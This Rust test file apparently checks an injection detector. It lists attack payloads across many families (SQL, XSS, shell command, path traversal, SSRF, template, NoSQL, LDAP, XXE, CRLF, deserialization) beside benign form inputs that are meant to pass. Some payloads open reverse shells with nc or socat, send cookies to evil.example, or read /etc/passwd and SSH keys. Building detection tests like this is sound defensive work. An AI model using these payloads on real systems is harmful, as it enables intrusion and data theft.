//! Attacks that no corpus named, so that rules are known to be for the attack and not for the row;
//! and everyday texts that look like one.

use super::*;

/// Dialects, shells and engines, with the family that is to find each.
#[rustfmt::skip]
const ATTACKS: &[(&str, &[&str])] = &[
    ("sqli", &[
        // PostgreSQL, Oracle, SQL Server, SQLite, MySQL, DB2, Firebird
        "1' AND 1=CAST((SELECT version()) AS int)--", "1; COPY cmd_exec FROM PROGRAM 'id'", "1 and pg_read_file('/etc/hostname')",
        "'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'", "' UNION SELECT NULL,banner FROM v$version--",
        "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)", "1; EXEC sp_configure 'show advanced options',1", "1);WAITFOR DELAY '0:0:5'--",
        "1; ATTACH DATABASE '/var/www/lol.php' AS lol", "' AND randomblob(1000000000) --", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ",
        "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z", "1 union select 1 from sysibm.sysdummy1", "1' and (select count(*) from rdb$fields)>0 --",
        // comments, line breaks, quotes of Unicode and codes between the words
        "0 div 1 union#foo*/*bar\r\nselect#foo\r\n1,2,current_user", "' UNION/**_**/SELECT/**_**/1,2", "1+UNION+ALL+SELECT+1,2,3",
        "id=\u{2019} OR \u{2019}1\u{2019}=\u{2019}1", "%2527%2520or%25201=1--", "\u{ff07} or 1=1 --",
    ]),
    ("xss", &[
        "<xss onscrollsnapchange=window.x=1>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<a href=javascript&colon;alert(1)>x",
        "<svg><script>alert&lpar;1&rpar;</script>", "Set.constructor`alert\\x281\\x29```", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\">", "throw onerror=alert,1", "';alert(document.domain)//",
        "new Image().src='//evil.example/?c='+document.cookie", "<template><script>alert(1)</script></template>",
    ]),
    ("command", &[
        // POSIX shells, Windows, PowerShell, tools and options that run others
        ";{cat,/etc/passwd}", ";w`echo`hoami", ";rev<<<dwssap/cte/ tac", "$(<flag)", ";mkfifo /tmp/f", ";find / -name passwd",
        ";ssh user@evil.example", ";busybox nc 10.0.0.1 4444 -e sh", ";socat exec:'bash -li' tcp:10.0.0.1:4444", ";kubectl get pods",
        "|type C:\\Windows\\win.ini", "& certutil -urlcache -f http://evil.example/x x.exe", ";Get-ChildItem C:\\",
        "powershell -nop -w hidden -c \"IEX(1)\"", "-oProxyCommand=curl evil.example", "--upload-pack=touch /tmp/x",
    ]),
    ("traversal", &[
        "..;/..;/admin", "~/.ssh/id_rsa", "/app/.env", "WEB-INF/web.xml", "/opt/tomcat/conf/tomcat-users.xml", "..%u2215..%u2215etc/passwd",
        "....//....//etc/passwd", "/%5C../%5C../etc/passwd",
    ]),
    ("ssrf", &[
        "http://[fe80::1]/", "http://425.510.425.510/", "http://kubernetes.default.svc/", "http://0x7f.1/", "http://0251.0376.0251.0376/",
        "http://\u{2460}\u{2461}\u{2466}.0.0.1/", "http://[::ffff:a9fe:a9fe]/",
    ]),
    ("template", &[
        "{{ joiner.__init__ }}", "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{= global.process.env }}", "{7*7}", "{{self}}",
        "#{root.process.mainModule.require('child_process').execSync('id')}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    ]),
    ("nosql", &["{\"$lookup\":{\"from\":\"users\"}}", "'; return true; var a='", "db.getCollectionNames()", "', $or: [ {}, { 'a':'a"]),
    ("ldap", &["*)(objectClass=*", "admin)(!(&(1=0", "*))%00"]),
    ("xxe", &["<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://evil.example/x.dtd\"> %d;]>", "<!doctype foo system \"http://evil.example/\">"]),
    ("crlf", &["x%E5%98%8A%E5%98%8DSet-Cookie:a=b", "x%0d%0aLocation:%20http://evil.example"]),
    ("prototype", &["{\"constructor\":{\"prototype\":{\"a\":1}}}"]),
    ("code", &["!!python/object/apply:os.system [\"id\"]", "eval(compile('import os','x','exec'))", "gASVIAAAAAAAAACMBXBvc2l4/A=="]),
];

/// Names, prose, code, markup, search, documents' syntax: what people write into forms.
#[rustfmt::skip]
const EVERYDAY: &[&str] = &[
    "O'Brien", "D'Angelo & Sons", "Conan O'Neill-D'Arcy", "L\u{2019}Or\u{e9}al; l\u{2019}\u{e9}t\u{e9}\u{2019}s end", "It\u{2019}s John\u{2019}s \u{2014} isn\u{2019}t it?",
    "Please select one from the list", "UPDATE: the meeting is at 5; please insert your name", "Drop the table off at 5", "union members select a new leader",
    "SELECT name FROM users WHERE id = 5", "How to select rows from a table where id = 1?", "CREATE TABLE tutorial", "price between 10 and 20", "1=1?",
    "status = \"Open\" AND assignee = currentUser() ORDER BY created DESC", "(category:books AND price:[10 TO 20]) OR title:\"foo\"",
    "name eq 'Milk' and price gt 5", "id in (1,2,3)", "$filter=startswith(name,'A')", "x > 5 and y < 3", "math: (1+2)*3=9", "f(x) = x^2 + 3*x - 1",
    "`--disable-nls` option to configure", "\"#MeToo\" movement", "'#1' hit", "- `HttpResponseBuilder::json()` takes data by value", "/*! Wrapper routines */",
    "return \"%.1f %s\" % (size, unit)", "lhs = name and '<b>%s</b> = ' % name or ''", "self.__class__.__name__", "return self.escape('<%s instance>' % x.__class__.__name__)",
    "m = __import__(name)", "if __name__ == \"__main__\":", "self.write(comment)", "doc = self.document", "Vec<Option<Script>>", "fn script(&self) -> Result<Script> {",
    "Use `curl` to fetch it", "The `id` column is required", "Run `ls -la` in the folder", "curl https://example.com/api", "#! /usr/bin/env python3",
    "npm install && npm start", "cd my-app; npm test", "docker run -p 80:80 nginx", "press OK (confirm)", "Weather (alert)",
    "<svg width=\"10\" height=\"10\"><circle r=\"4\"/></svg>", "data:image/svg+xml;utf8,<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    "@import url('https://fonts.googleapis.com/css?family=Roboto');", "body { font-family: 'Open Sans', sans-serif; }", "background: #fff url(/img/x.png)",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3",
    "{\"$ref\":\"#/definitions/User\"}", "{\"$schema\":\"http://json-schema.org/draft-07/schema#\",\"$id\":\"x\"}", "{\"$type\":\"color\",\"$value\":\"#fff\"}",
    "query Q($id: ID!) { node(id: $id) { ... on User { name } } }", "{ films(first: 10, orderBy: \"title\") { title } }", "mutation { addUser(name: \"x\") { id } }",
    "https://example.com/redirect?url=https%3A%2F%2Fother.example%2Fpath", "../images/logo.png", "C:\\Users\\anna\\file.txt", "\\\\server\\share\\docs",
    "Hello {{ user.first_name }}, welcome", "{{#if items}}x{{/if}}", "{{Infobox|name=x}}", "{{cite web|url=http://x.com|title=y}}", "${name}",
    "[`XxHash3_64`][] or [`XxHash3_128`][]        |", "gpe-beam     |     [] []  []         []    |", "s/foo/bar/g", "^\\d{3}-\\d{4}$", "*/15 * * * *",
    "=IF(A1>5,\"yes\",\"no\")", "24\" monitor", "5' 11\" tall", "10% off -- today only", "(a)(b)(c)", "a || b", "Pa$$w0rd!", "=SUM(A1:A5)", "I <3 you",
];

#[test]
fn attacks_of_any_dialect_are_found() {
    for (family, attacks) in ATTACKS {
        assert_finds(family, attacks);
    }
}

#[test]
fn everyday_texts_pass() {
    assert_passes(EVERYDAY);
}
